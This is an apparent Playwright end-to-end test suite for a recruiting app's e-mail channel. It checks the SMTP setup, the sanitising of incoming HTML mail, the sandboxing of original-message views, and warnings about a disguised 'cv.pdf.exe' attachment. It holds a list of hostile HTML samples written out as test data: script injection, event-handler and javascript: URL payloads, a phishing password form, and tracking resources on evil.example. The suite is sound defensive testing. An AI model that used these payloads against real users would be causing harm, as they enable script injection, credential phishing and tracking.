import { expect, type Page } from '@playwright/test';
import { handOver, nthMail, rawMail, replyTo, webhookSecret } from '#test/mailing.ts';
import { hurry } from '#test/texting.ts';
import { type FakeSmtp, startSmtp } from '../providers/smtp.ts';
import { expectNoViolations } from './support/axe.ts';
import { addCandidates, newBrowserOf, owner, type Parley, startParley } from './support/parley.ts';
import { test } from './support/test.ts';

let parley: Parley;
let smtp: FakeSmtp;
test.beforeAll(async () => {
  parley = await startParley();
  smtp = await startSmtp();
  Object.assign(parley.services.config, { privateHosts: ['127.0.0.1'] });
});
test.afterAll(async () => {
  await parley?.close();
  await smtp?.close();
});

const hostile = [
  '<p style="color:#c00">I would <b>love</b> to come. <a href="https://portfolio.example/ana">My work</a></p>',
  '<script>top.pwned = 1</script><img src=x onerror="top.pwned = 2"><svg onload="top.pwned = 3"></svg>',
  '<div style="background:url(https://evil.example/css.png);position:fixed;inset:0">Cover</div>',
  '<style>@import "https://evil.example/a.css"; body{background:url(https://evil.example/b.png)}</style>',
  '<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>',
  '<form action="https://evil.example/form"><input name="password"><button>Sign in again</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<a href="javascript:top.pwned = 4">one</a> <a href="data:text/html,<script>alert(1)</script>">two</a>',
  '<img src="https://evil.example/pixel.png" alt="Company logo">',
  '<div class="gmail_quote">On Monday, we wrote:<blockquote>Your interview</blockquote></div>',
].join('\n');

/** What the page asks of anybody but us. */
async function watch(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route(
    (url) => url.origin !== parley.url && url.protocol.startsWith('http'),
    (route) => {
      asked.push(route.request().url());
      return route.abort();
    },
  );
  page.on('dialog', (dialog) => {
    asked.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  return asked;
}

test('an owner connects the mail server, and is told which field is wrong', async ({ browser }) => {
  const page = await newBrowserOf(browser, parley, owner);
  await page.goto('/settings?section=channels');
  await page.getByRole('button', { name: 'Connect E-mail' }).click();
  const dialog = page.getByRole('dialog', { name: 'Connect E-mail' });
  const sending = dialog.getByRole('group', { name: 'Sending' });
  await sending.getByLabel('Sender address').fill('jobs@acme.example');
  await sending.getByLabel('SMTP server').fill('127.0.0.1');
  await sending.getByLabel('Port').fill(String(smtp.port));
  await sending.getByRole('combobox', { name: 'Encryption' }).click();
  await page.getByRole('option', { name: 'None (own network only)' }).click();
  await sending.getByLabel('User').fill(smtp.login.user);
  await sending.getByRole('textbox', { name: 'Password' }).fill('wrong');
  await dialog.getByRole('textbox', { name: 'Secret of the webhook' }).fill(webhookSecret);
  await dialog.getByRole('button', { name: 'Test and save' }).click();
  await expect(sending.getByText(/does not let this user in/)).toBeVisible();
  await sending.getByRole('textbox', { name: 'Password' }).fill(smtp.login.password);
  await dialog.getByRole('button', { name: 'Test and save' }).click();
  await expect(dialog.getByText('It works')).toBeVisible();
  await dialog.getByRole('button', { name: 'Close' }).last().click();
  await expect(page.getByText('jobs@acme.example (SMTP & IMAP)')).toBeVisible();
});

test('a mail with hostile HTML shows harmlessly', async ({ browser }) => {
  const page = await newBrowserOf(browser, parley, owner);
  const asked = await watch(page);
  const email = 'ana@candidates.example';
  const [id] = await addCandidates(page, parley, [{ firstName: 'Ana', lastName: 'Reyes', email }]);
  const invitation = await nthMail(smtp, email, 1);
  const channels = await (await page.request.get(`${parley.url}/api/channels`)).json();
  const { webhookUrl } = channels.find(({ channel }: { channel: string }) => channel === 'email').connection;
  const body = { type: 'text/html; charset=utf-8', content: hostile };
  const raw = replyTo(invitation, { from: 'Ana <ana.private@elsewhere.example>', body });
  expect((await handOver(parley, new URL(webhookUrl).pathname, raw)).statusCode).toBe(200);
  await hurry(parley);

  await page.goto(`/leads?id=${id}`);
  const conversation = page.getByRole('region', { name: 'Conversation' });
  const mail = conversation.getByRole('article').filter({ hasText: 'I would love to come' });
  await expect(mail).toBeVisible();
  await expect(mail).not.toContainText('javascript:');
  await expect(mail).not.toContainText('On Monday, we wrote');
  await expect(mail).toContainText('from ana.private@elsewhere.example');

  await mail.getByRole('button', { name: 'Show the original' }).click();
  const dialog = page.getByRole('dialog');
  const frame = dialog.frameLocator('iframe');
  await expect(frame.getByText('love')).toBeVisible();
  await expect(frame.getByText('On Monday, we wrote')).toBeVisible();
  await expect(
    frame.locator('script, iframe, object, form, input, svg, style:not(head style), meta[http-equiv]'),
  ).toHaveCount(0);
  await expect(frame.getByRole('link')).toHaveCount(1);
  await expect(frame.locator('img[src]')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBe(undefined);
  expect(asked).toEqual([]);

  await dialog.getByRole('switch', { name: 'Show pictures from elsewhere' }).click();
  await expect(frame.locator('img[src]')).toHaveCount(1);
  await expect.poll(() => asked).toEqual(['https://evil.example/pixel.png']);
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
});

test('the page of an original can do nothing where somebody opens it by itself', async ({ browser }) => {
  const page = await newBrowserOf(browser, parley, owner);
  const asked = await watch(page);
  const query = "select id from messages where html like '%pwned%'";
  const [message] = (await parley.db.pool.query(query)).rows;
  const answer = await page.goto(`/api/messages/${message.id}/original?images=shown`);
  expect(answer?.headers()['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
  expect(await page.evaluate(() => window.origin).catch(() => 'no script')).not.toBe(parley.url);
  await expect(page.getByText('love')).toBeVisible();
  expect(asked.filter((url) => !url.endsWith('pixel.png'))).toEqual([]);
});

test('a stranger’s mail says that nobody vouches for it, warns of what may be a program, and leads into a campaign', async ({
  browser,
}) => {
  const page = await newBrowserOf(browser, parley, owner);
  const channels = await (await page.request.get(`${parley.url}/api/channels`)).json();
  const { webhookUrl } = channels.find(({ channel }: { channel: string }) => channel === 'email').connection;
  const content = [
    '--b\nContent-Type: text/plain\n\nHere is my CV\n',
    '--b\nContent-Type: application/pdf; name="cv.pdf.exe"\nContent-Disposition: attachment; filename="cv.pdf.exe"\n\nMZ\n',
    '--b--',
  ].join('\n');
  const body = { type: 'multipart/mixed; boundary=b', content };
  const raw = rawMail({ from: 'Eve Stranger <eve@strangers.example>', subject: 'Hello', body });
  expect((await handOver(parley, new URL(webhookUrl).pathname, raw)).statusCode).toBe(200);
  await hurry(parley);

  await page.goto('/leads?campaign=0');
  await page
    .getByRole('button', { name: /Eve Stranger/ })
    .first()
    .click();
  const mail = page.getByRole('article').filter({ hasText: 'Here is my CV' });
  await expect(mail).toContainText('Sender not confirmed');
  const profile = page.getByRole('region', { name: 'Profile' });
  await expect(profile).toContainText('eve@strangers.exampleNot confirmed');
  await mail.getByRole('button', { name: 'Download cv.pdf.exe, which may be a program' }).click();
  const asked = page.getByRole('dialog', { name: 'Download a file that may be a program?' });
  await expectNoViolations(page, 'the question before the download');
  const download = page.waitForEvent('download');
  await asked.getByRole('button', { name: 'Download all the same' }).click();
  expect((await download).suggestedFilename()).toBe('cv.pdf.exe');

  await expect(profile.getByRole('button', { name: 'Shortlist' })).toHaveCount(0);
  const add = await profile.getByRole('button', { name: 'Add to a campaign…' }).boundingBox();
  expect(add?.height).toBeGreaterThan(24);
  await page.keyboard.press('x');
  const bar = page.getByRole('toolbar', { name: 'Selected candidates' });
  await expect(bar.getByRole('button', { name: 'Add to a campaign…' })).toBeVisible();
  await expect(bar.getByRole('button', { name: 'Move' })).toHaveCount(0);
  await page.keyboard.press('Escape');
  await page.keyboard.press('s');
  const adding = page.getByRole('dialog', { name: 'Add Eve Stranger to a campaign' });
  await adding.getByRole('combobox', { name: 'Campaign' }).click();
  await page.getByRole('option').first().click();
  await adding.getByRole('button', { name: 'Add', exact: true }).click();
  await expect(adding).toBeHidden();
  await expect(profile.getByRole('button', { name: 'Shortlist' })).toBeVisible();
});
